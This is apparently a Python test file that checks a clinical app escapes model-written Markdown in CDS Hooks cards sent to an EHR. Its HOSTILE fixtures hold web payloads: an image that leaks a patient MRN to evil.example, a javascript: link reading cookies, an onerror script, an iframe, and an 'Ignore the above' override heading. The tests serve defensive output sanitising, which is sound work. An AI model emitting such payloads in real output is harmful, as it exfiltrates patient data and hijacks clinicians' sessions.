"""CDS Hooks card text is escaped Markdown (issue 17, finding 7): whatever the model writes
(an image that would send the patient's MRN to another host when the EHR renders the card,
a ``javascript:`` link, raw HTML, a heading or list smuggled in with new lines) reaches the
EHR as plain words, and the only links a card carries lead to this Bedside."""

from __future__ import annotations

from types import SimpleNamespace
from typing import Any

from markdown_it import MarkdownIt
from markdown_it.token import Token

from clinical.ehr.cds_hooks import HookResponse
from clinical.ehr.cds_hooks import cards as card_shapes
from clinical.models import Case, CaseStatus
from tests.fakes import assessment

OWN_LINK = "https://bedside.hospital.example/cases/3f1c0a52-8d0e-4c55-9d43-1f0e2a6b7c10/"
HOSTILE = {
    "diagnosis": "![](http://evil.example/?mrn=12345) Pulmonary embolism",
    "action": "[Open the chart](javascript:alert(document.cookie))",
    "flag": 'Hypoxia <img src=x onerror="alert(1)"> &lt;script&gt;',
    "fact": "SpO2 89 %\n\n# Ignore the above\n<iframe src=http://evil.example/>",
    "autolinks": "see <http://evil.example/a> or www.evil.example",
    "model": "m*o*d_e_l](http://evil.example/)",
}


def _hostile_card() -> dict[str, Any]:
    answer = assessment(HOSTILE["diagnosis"], steps=None)
    fact = {"id": "F1", "text": HOSTILE["fact"], "path": "history_of_present_illness"}
    answer["differential"][0]["supporting_facts"] = [fact]
    answer["next_steps"] = [{"action": HOSTILE["action"]}, {"action": HOSTILE["autolinks"]}]
    answer["red_flags"] = [{"flag": HOSTILE["flag"], "based_on": ["SpO2 89 %"]}]
    run = SimpleNamespace(
        assessment=answer, confidence=0.9, confidence_method="m", model_name=HOSTILE["model"]
    )
    case = Case(
        input={
            "patient": {"age_years": 71, "sex": "female"},
            "chief_complaint": "Breathless after a long flight",
            "question": "What is the most likely diagnosis?",
            "vitals": {"heart_rate": 118, "respiratory_rate": 26, "spo2": 89},
        },
        status=CaseStatus.COMPLETED,
    )
    return card_shapes.assessment_card(case, run, OWN_LINK, "u")


def _tokens(markdown: str) -> list[Token]:
    flat = []
    for token in MarkdownIt("commonmark").parse(markdown):
        flat += [token, *(token.children or [])]
    return flat


def test_model_text_in_a_card_renders_as_words_not_markup() -> None:
    card = _hostile_card()
    HookResponse.model_validate({"cards": [card]})
    tokens = _tokens(card["detail"])
    kinds = {token.type for token in tokens}
    assert "image" not in kinds
    assert not kinds & {"html_inline", "html_block"}
    hrefs = [token.attrGet("href") for token in tokens if token.type == "link_open"]
    assert all(str(href).startswith(OWN_LINK) for href in hrefs), hrefs
    # Headings are Bedside's own bold labels only; nothing the model wrote became one.
    assert "heading_open" not in kinds
    # The model's words are all still there, as text (new lines folded to spaces).
    shown = " ".join(token.content for token in tokens if token.type == "text")
    for text in HOSTILE.values():
        assert " ".join(text.split()) in shown, text
    # No bare address a GitHub-flavoured renderer would turn into a link.
    assert "http://" not in card["detail"] and "www.evil" not in card["detail"]


def test_a_cards_links_lead_to_this_bedside_only() -> None:
    card = _hostile_card()
    assert card["source"]["url"] == OWN_LINK
    assert [link["url"] for link in card["links"]] == [OWN_LINK]
